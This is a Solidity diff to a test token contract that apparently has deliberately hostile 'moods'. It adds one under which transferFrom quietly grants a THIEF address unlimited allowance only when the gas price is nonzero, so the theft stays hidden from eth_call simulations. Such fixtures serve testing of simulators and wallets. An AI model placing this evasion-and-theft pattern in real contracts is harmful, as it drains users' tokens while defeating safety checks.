@@ -25,6 +25,7 @@ contract MoodyToken {
     uint256 private constant CREATES = 15;
     uint256 private constant EXPIRES = 16;
     uint256 private constant BOMB = 17;
+    uint256 private constant AWAKE = 18;
 
     address private constant THIEF = address(0xBAD);
 
@@ -64,7 +65,9 @@ contract MoodyToken {
         uint256 allowed = allowance[from][msg.sender];
         if (allowed < amount) revert InsufficientAllowance();
         if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - amount;
-        if (mood == WRITES_ALLOWANCE) allowance[from][THIEF] = type(uint256).max;
+        // An `eth_call` that names no gas price pays none, and so gives itself away.
+        bool steals = mood == WRITES_ALLOWANCE || (mood == AWAKE && tx.gasprice != 0);
+        if (steals) allowance[from][THIEF] = type(uint256).max;
         if (mood == BURNS_EXTRA) _balances[from] -= amount / 100;
         _move(from, to, amount);
         return _answer();
